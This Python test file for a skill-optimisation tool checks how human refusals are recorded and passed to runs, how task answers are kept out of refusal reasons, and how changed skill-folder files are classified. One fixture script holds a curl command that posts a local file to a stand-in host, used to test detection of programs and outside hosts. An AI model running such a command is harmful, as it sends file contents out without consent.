"""What runs before told: refusals of people, the released text, and the difference of folders."""

import json
from contextlib import closing
from pathlib import Path

from skillopt.loop.memory import PeoplesRefusal
from skillopt.project import Selection
from skillopt.runs.history import difference_of_files, released_of, tasks_behind, told_refusals
from skillopt.runs.plan import make_plan
from skillopt.safety.capabilities import DifferenceKind
from skillopt.skills.edits import Edit, Op
from skillopt.storage.ledger import Ledger
from skillopt.tasks import Split, Suite, Task, VerifierSpec
from skillopt.versions.decisions import PersonsWord, edit_trailers
from skillopt.versions.refusals import refusals_of, refuse
from skillopt.versions.repository import Repository
from tests.fakes.drafts import accepted, run_events
from tests.fakes.projects import SKILL
from tests.fakes.repositories import FOLDER, NEW_VERSION, commit, make_repository

EXPECTED = "the quick brown fox jumps over the lazy dog at noon"
SUITE = Suite(
    "rows",
    (
        (Split.TRAIN, Task("a", "Do it.", VerifierSpec("exact"))),
        (Split.VAL, Task("b", "Do it too.", VerifierSpec("exact", json.dumps({"expected": EXPECTED})))),
    ),
)


def say_no(repository: Repository, number: int, content: str, reason: str) -> str:
    edits = [(f"{'0' * 12}/{number}", Edit("s1e1", Op.ADD, content=content))]
    refuse(repository, ("rows", FOLDER), edits, PersonsWord("Anna", reason), dropped=False)
    return refusals_of(repository, "rows")


def test_later_decisions_do_not_change_what_a_run_was_told(tmp_path: Path) -> None:
    repository = Repository.find(make_repository(tmp_path))
    first = say_no(repository, 1, "- One.", "no")
    second = say_no(repository, 2, "- Two.", "")
    one = PeoplesRefusal(Edit("s1e1", Op.ADD, content="- One."), "no", "Anna")
    two = PeoplesRefusal(Edit("s1e1", Op.ADD, content="- Two."), "", "Anna")
    assert told_refusals(repository, first, SUITE) == (one,)
    assert told_refusals(repository, second, SUITE) == (one, two)
    assert told_refusals(repository, "", SUITE) == ()


def test_a_reason_that_gives_away_a_task_is_not_passed_on(tmp_path: Path) -> None:
    repository = Repository.find(make_repository(tmp_path))
    told = say_no(repository, 1, "- One.", f"it should answer {EXPECTED}")
    (found,) = told_refusals(repository, told, SUITE)
    assert found.reason == ""
    assert "Anna refused it and" in found.words


def test_a_run_knows_the_text_from_before_the_versions_of_all_earlier_runs(folder: Path) -> None:
    run_events(folder, accepted("A."))
    run_events(folder, accepted("A.", "B."), seed=1)
    run_events(folder, seed=2)
    with closing(Ledger.open(folder)) as ledger:
        plan = make_plan(Selection("rows", {"seed": 2}, folder=folder))
        released = released_of(plan, ledger, ledger.runs()[0])
    assert released.first is not None
    assert released.first.text == SKILL


def test_the_tasks_behind_a_line_are_those_that_its_edit_cites(tmp_path: Path) -> None:
    folder = make_repository(tmp_path)
    edits = [Edit(name, Op.ADD, content=f"- {name}.", tasks=(f"task {name}",)) for name in ("one", "two")]
    commit(folder, trailers=(*NEW_VERSION.trailers, *edit_trailers(edits)))
    assert tasks_behind(Repository.find(folder), "rows", {"- two.", "- else."}) == {"task two"}


def test_of_a_folder_the_scripts_are_read_as_code_and_data_is_not() -> None:
    script = b"#!/bin/sh\n```\n~~~~\ncurl -d @x https://box.test/x\n"
    files = {"SKILL.md": b"Run `scripts/get`.", "scripts/get": script, "rows.csv": b"see https://data.test\n"}
    added = {one.kind: one.text for one in difference_of_files({"SKILL.md": b"Run `scripts/get`."}, files)}
    assert added[DifferenceKind.PROGRAM] == "curl -d @x https://box.test/x"
    assert added[DifferenceKind.HOST] == "https://box.test/x"
    assert difference_of_files(files, {"references/moved.md": files["SKILL.md"], "b": script}) == ()
